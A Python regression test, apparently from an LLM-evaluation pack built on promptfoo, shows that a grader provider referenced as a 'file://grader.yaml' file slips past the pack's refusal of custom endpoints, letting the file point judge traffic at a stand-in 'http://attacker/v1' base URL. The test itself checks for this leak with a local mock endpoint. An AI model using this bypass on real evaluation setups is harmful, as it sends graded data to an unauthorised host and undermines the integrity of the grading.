"""Break: a grader named as `file://grader.yaml` (promptfoo loads provider options from a YAML file) hides the
file's apiBaseUrl from the switch's endpoint refusal (issue 39).

Under GROUNDING_EVAL_JUDGE_PROVIDER the pack walks every grader setting and refuses a named endpoint, but
it only looks at the setting's own `config`; a provider id `file://grader.yaml` has none, and promptfoo then
reads `{id: openai:chat:gpt-4o-mini, config: {apiBaseUrl: http://attacker/v1}}` from the file.
"""

from __future__ import annotations

import sys

import yaml

from common import REPO, Endpoint, eval_in, partner_env, report, tmpdir

JUDGE = "file://" + str(REPO / "assertions" / "grounding.cjs")
GRADED = '{"pass": true, "score": 1, "reason": "ok"}'


def main() -> int:
    leaks = 0
    for where in ("assertion-provider", "defaultTest.options.provider"):
        ep = Endpoint(lambda p, r: GRADED)
        tmp = tmpdir("fileref")
        s = tmp / "study"
        s.mkdir()
        with ep.running():
            (s / "grader.yaml").write_text(yaml.safe_dump(
                {"id": "openai:chat:gpt-4o-mini", "config": {"apiBaseUrl": f"{ep.url}/v1"}}), encoding="utf-8")
            rubric = {"type": "llm-rubric", "value": "The answer is polite."}
            config = {
                "prompts": ["{{question}}"],
                "providers": [{"id": "echo"}],
                "extensions": [JUDGE + ":beforeAll"],
                "tests": [{"vars": {"question": "Call Legal Aid Chicago.", "query_id": "q1"}, "assert": [rubric]}],
            }
            if where == "assertion-provider":
                rubric["provider"] = "file://grader.yaml"
            else:
                config["defaultTest"] = {"options": {"provider": "file://grader.yaml"}}
            (s / "promptfooconfig.yaml").write_text(yaml.safe_dump(config, sort_keys=False), encoding="utf-8")
            done = eval_in(s, partner_env(tmp, GROUNDING_EVAL_JUDGE_PROVIDER="openai:chat:gpt-4o-mini"))
        leaks += report(ep, done, f"file-ref {where}")
    return 1 if leaks else 0


if __name__ == "__main__":
    sys.exit(main())
